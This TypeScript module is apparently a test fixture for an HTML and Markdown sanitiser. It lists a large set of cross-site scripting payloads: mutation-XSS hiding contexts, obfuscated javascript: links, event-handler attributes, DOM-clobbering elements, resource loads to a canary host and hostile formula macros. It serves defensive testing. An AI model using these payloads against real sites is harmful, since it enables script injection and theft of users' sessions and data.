/**
 * Malicious markup of our own, modelled on known attacks against sanitisers. Code in it calls `hit()`, and resources
 * are at `canary.invalid`. After sanitising, nothing may be left that does either, that changes when it is serialised
 * and parsed again, or that takes the name of another element.
 */
const sinks = [
  '<img src=x onerror=hit()>',
  '<script>hit()</script>',
  '<svg onload=hit()></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
]

/** Contexts that one parser reads as text and another as elements; `$` is replaced by the markup. */
const hidingPlaces = [
  '<math><mtext><table><mglyph><style><!--</style>$',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>$">',
  '<form><math><mtext></form><form><mglyph><style></math>$',
  '<math><annotation-xml encoding="text/html"><style><!--</style>$--></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><p>$</p></annotation-xml></math>',
  '<svg><foreignObject><p><style><!--</style>$</p></foreignObject></svg>',
  '<svg><desc><style><a id="</style>$"></desc></svg>',
  '<svg><title><style>$</style></title></svg>',
  '<svg></p><style><a title="</style>$">',
  '<svg><p><style><g title="</style>$">',
  '<noscript><p title="</noscript>$"></noscript>',
  '<noscript><style></noscript>$</style>',
  '<noembed><p title="</noembed>$"></noembed>',
  '<noframes><p title="</noframes>$"></noframes>',
  '<style><!--</style>$-->',
  '<title><a title="</title>$"></title>',
  '<textarea><a title="</textarea>$"></textarea>',
  '<xmp><a title="</xmp>$"></xmp>',
  '<iframe><a title="</iframe>$"></iframe>',
  '<template><p title="</template>$"></template>',
  '<plaintext>$',
  '<!-->$-->',
  '<!--->$-->',
  '<!--!>$-->',
  '<!-- --!>$-->',
  '<![CDATA[$]]>',
  '<svg><![CDATA[</svg>$]]></svg>',
  '<?xml $ ?>',
  '<!DOCTYPE html [<!ENTITY a "$">]>',
  '<select><option><style></option></select>$</style>',
  '<table><caption><svg><title><table><caption></caption></table></title></svg>$',
  '<p><svg><p><style></p>$</style></svg>',
]

const links = [
  ...[
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    ' javascript:hit()',
    'java\tscript:hit()',
    'java\nscript:hit()',
  ],
  ...['\x01javascript:hit()', 'javascript&colon;hit()', '&#106;avascript:hit()', '&#x6A&#x61vascript:hit()'],
  ...['javascript&#0000058hit()', 'jav&#x0A;ascript:hit()', 'javascript://%0ahit()', 'vbscript:hit()'],
  ...['data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='],
  ...[
    'data:image/svg+xml,<svg onload=hit()>',
    'blob:https://canary.invalid/1',
    'filesystem:https://canary.invalid/1',
  ],
  ...[
    'file:///etc/passwd',
    'view-source:https://canary.invalid',
    'jar:https://canary.invalid!/',
    'about:blank',
  ],
  ...[
    '//canary.invalid/',
    '\\\\canary.invalid/',
    '/\\canary.invalid',
    'https:canary.invalid',
    'feed:javascript:hit()',
  ],
  ...[
    'https://zenit.example@canary.invalid/',
    'https://user:pass@canary.invalid/',
    'x-javascript:hit()',
    'intent://x#Intent;',
  ],
  ...[
    'https://canary.invalid/"onmouseover="hit()',
    'https://canary.invalid/`onclick=hit()',
    'ja\0vascript:hit()',
  ],
  ...[
    '\u2028javascript:hit()',
    '\u00a0javascript:hit()',
    '\ufeffjavascript:hit()',
    'javascript\u2236hit()',
    '｀javascript:hit()',
  ],
  ...[
    'mailto:a@b.pl?subject=<script>hit()</script>',
    'https://xn--80ak6aa92e.com/',
    'https://ex\u0430mple.com/',
    'tel:1',
  ],
].map((address) => `<a href="${address.replaceAll('"', '&quot;')}">odnośnik</a>`)

const attributes = [
  '<p onclick=hit()>a</p>',
  '<p onpointerenter="hit()" ONLOAD=hit() onfocus=hit() autofocus tabindex=1>a</p>',
  '<p/onclick=hit()/>a',
  '<p\nonclick=hit()\n>a',
  '<p onclick\x0c=\x0chit()>a',
  '<p "onclick=hit()>a',
  "<p title='\"><img src=x onerror=hit()>'>a",
  '<p title=`"><img src=x onerror=hit()>`>a',
  '<p =onclick=hit()>a',
  '<p title="a"onclick=hit()>a',
  '<p style="background:url(https://canary.invalid/1)">a</p>',
  '<p style="width:expression(hit())">a</p>',
  '<p style="behavior:url(#default#time2)" onbegin=hit()>a</p>',
  '<p style="-moz-binding:url(https://canary.invalid/1)">a</p>',
  '<p style="position:fixed;inset:0;z-index:9999">a</p>',
  '<p class="toast dialog" role=dialog aria-hidden=true hidden>a</p>',
  '<p data-testid=x data-action=delete slot=a is=x-y part=z exportparts=z>a</p>',
  '<p contenteditable popover draggable=true accesskey=x inert>a</p>',
  '<p xmlns="http://www.w3.org/2000/svg" xml:base="javascript:hit()//">a</p>',
  '<a href="https://zenit.example/" ping="https://canary.invalid/ping" target=_self rel=opener download>a</a>',
  '<a href="https://zenit.example/" referrerpolicy=unsafe-url attributionsrc="https://canary.invalid/a">a</a>',
  '<a xlink:href="javascript:hit()">a</a>',
  '<a href="https://zenit.example/" href="javascript:hit()">a</a>',
  '<a href=javascript:hit() href="https://zenit.example/">a</a>',
  '<a href>a</a>',
  '<a href="https://zenit.example/" onclick=hit() style=color:red class=x id=x name=y>a</a>',
]

const names = [
  'getElementById',
  'body',
  'cookie',
  'forms',
  'location',
  'attributes',
  'parentNode',
  'zenit',
  '__proto__',
  'self',
]

/** Elements that replace something that a script would find by its name. */
const clobbering = [
  ...names.map((name) => `<a id=${name} name=${name} href="https://zenit.example/">a</a>`),
  ...names.slice(0, 4).map((name) => `<form name=${name}><input name=${name} id=nodeName></form>`),
  '<img name=currentScript src=x><img name=currentScript src=y>',
  '<iframe name=self srcdoc="<a id=a></a>"></iframe>',
  '<object id=x name=x data=x></object><embed name=x src=x>',
  '<a id=config><a id=config name=url href="https://canary.invalid/">',
]

const elements = [
  '<base href="https://canary.invalid/"><a href="/x">a</a>',
  '<meta http-equiv=refresh content="0;url=https://canary.invalid/">',
  '<meta http-equiv=set-cookie content="a=b"><meta charset=utf-7>',
  '<link rel=stylesheet href="https://canary.invalid/1.css">',
  '<link rel=prefetch href="https://canary.invalid/"><link rel=dns-prefetch href="//canary.invalid">',
  '<style>@import "https://canary.invalid/1.css";*{background:url(https://canary.invalid/2)}</style>a',
  '<style>body{display:none}</style><style media="</style><img src=x onerror=hit()>">',
  '<object data="https://canary.invalid/1.swf" onerror=hit()></object><embed src="https://canary.invalid/2.swf">',
  '<applet code=x></applet><param name=a value=b>',
  '<iframe src="https://canary.invalid/"></iframe><frameset><frame src="javascript:hit()"></frameset>',
  '<img srcset="https://canary.invalid/1 1x, https://canary.invalid/2 2x" src=https://canary.invalid/3 lowsrc=javascript:hit()>',
  '<picture><source srcset="https://canary.invalid/1"><img src=https://canary.invalid/2 loading=eager></picture>',
  '<video src="https://canary.invalid/1" poster="https://canary.invalid/2" onerror=hit() autoplay></video>',
  '<audio src=x onerror=hit()><source src=x onerror=hit()></audio><track src=x onerror=hit()>',
  '<body onload=hit() background="https://canary.invalid/1">a</body>',
  '<html onclick=hit()><head onclick=hit()><p>a',
  '<input type=image src="https://canary.invalid/1" onerror=hit()><input autofocus onfocus=hit()>',
  '<form action="https://canary.invalid/"><input name=password type=password><button formaction=javascript:hit()>a</button></form>',
  '<button form=x formaction="https://canary.invalid/" type=submit>a</button><isindex action=javascript:hit()>',
  '<form><form action=javascript:hit()><input type=submit></form></form>',
  '<details open ontoggle=hit()><summary>a</summary></details><dialog open>a</dialog>',
  '<marquee onstart=hit()>a</marquee><blink>a</blink><keygen autofocus onfocus=hit()>',
  '<table background="https://canary.invalid/1"><td background=javascript:hit()>a</td></table>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:hit() /><set attributeName=onload to=hit() /></svg>',
  '<svg><script xlink:href="https://canary.invalid/1.js"></script><image href="https://canary.invalid/1"/></svg>',
  '<svg><style>@import url(https://canary.invalid/1.css)</style><foreignObject><iframe src=javascript:hit()></foreignObject></svg>',
  '<math href="javascript:hit()"><maction actiontype=statusline xlink:href="javascript:hit()">a</maction></math>',
  '<math><mrow style="background:url(https://canary.invalid/1)"><semantics><annotation>a</annotation></semantics></mrow></math>',
  '<x-y onclick=hit()><slot name=a></slot></x-y><portal src="https://canary.invalid/"></portal>',
  '<template shadowrootmode=open><script>hit()</script><slot></slot></template>',
  '<script type=module>import "https://canary.invalid/1.js"</script><script type=importmap>{}</script>',
  '<script/x>hit()</script ><script\n>hit()</script\n>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<<script>hit();//<</script>',
  '<p>a<p>b</script><script>hit()<p>',
  '<\u0130mg src=x onerror=hit()><\u017fcript>hit()</\u017fcript>',
  '<img\u00a0src=x\u00a0onerror=hit()><img\u3000src=x onerror=hit()>',
  '\uff1cscript\uff1ehit()\uff1c/script\uff1e \u2039img src=x onerror=hit()\u203a',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '&lt;script&gt;hit()&lt;/script&gt; &amp;lt;img src=x onerror=hit()&amp;gt;',
  '%3Cscript%3Ehit()%3C/script%3E \\x3cscript\\x3ehit() \\u003cscript\\u003e',
  '\u202e>tpircs/<)(tih>tpircs<\u202c a\u2066b\u2069',
  '<li>a<ul>b<li>c</ol></li><h2><h3>d</h2>',
  '<ol><p><li><ul></ol><a href="https://zenit.example/"><p><a href="https://zenit.example/">a</p></a>',
  '<table><tr><a href="https://zenit.example/">a<td>b</table><p>c',
  '<b><p><i><strong></b><em>a</p></i></strong></em>',
]

const deep = [
  '<strong>'.repeat(600) + sinks[0],
  `${'<ul><li>'.repeat(300)}${sinks[0]}`,
  `${'<p><em>'.repeat(520)}<math><mtext>${sinks[1]}`,
  `${'<table><td>'.repeat(130)}${sinks[0]}`,
  `${'<svg>'.repeat(520)}<style><a id="</style>${sinks[0]}">`,
  `${'<a href="https://zenit.example/">'.repeat(200)}a`,
]

/** Formulas that try to produce more than MathML. */
const formulas = [
  String.raw`$\href{javascript:hit()}{a}$`,
  String.raw`$\url{javascript:hit()}$ and $\includegraphics{https://canary.invalid/1}$`,
  String.raw`$\class{toast}{a} \id{body}{b} \style{background:url(https://canary.invalid/1)}{c} \data{a=b}{d}$`,
  String.raw`$\text{<img src=x onerror=hit()>} \unicode{x3c}script\unicode{x3e}$`,
  String.raw`$\def\a{\a\a}\a \let\b\b \newcommand{\c}{\c}$`,
  '$`\\text{</mtext><img src=x onerror=hit()>}`$ ~~~math\n\\href{javascript:hit()}{x}\n~~~',
]

const markdown = [
  '[a](javascript:hit()) [b](<java\nscript:hit()>) [c](&#106;avascript:hit()) [d](JAVASCRIPT:hit)',
  '![a](javascript:hit()) ![b](x"onerror="hit()) ![c](https://canary.invalid/1)',
  '[a]: javascript:hit()\n\n[a] [b][a] ![c][a]',
  '<javascript:hit()> <https://canary.invalid/"onclick="hit()>',
  '[a](https://zenit.example/ "x\\" onclick=hit()")',
  '# a <img src=x onerror=hit()>\n\n> <script>hit()</script>\n\n- <svg onload=hit()>',
  '```html onclick=hit()\n<script>hit()</script>\n```\n\n    <script>hit()</script>',
  '[^<img src=x onerror=hit()>]\n\n[^<img src=x onerror=hit()>]: <script>hit()</script>',
  '| a | <img src=x onerror=hit()> |\n|---|---|\n| <script>hit()</script> | `</code><script>hit()</script>` |',
  '<div>\n\n[a](javascript:hit())\n\n</div>\n\n<style>\n\n*{}\n\n</style>',
  '`<script>`hit()`</script>` ~~<img src=x onerror=hit()>~~ http://a.pl/<script>hit()</script>',
]

/** All cases: each context combined with each sink. */
export const hostileMarkup: readonly string[] = [
  ...hidingPlaces.flatMap((place) => sinks.map((sink) => place.replace('$', () => sink))),
  ...sinks,
  ...links,
  ...attributes,
  ...clobbering,
  ...elements,
  ...deep,
]

export const hostileMarkdown: readonly string[] = [...markdown, ...formulas]
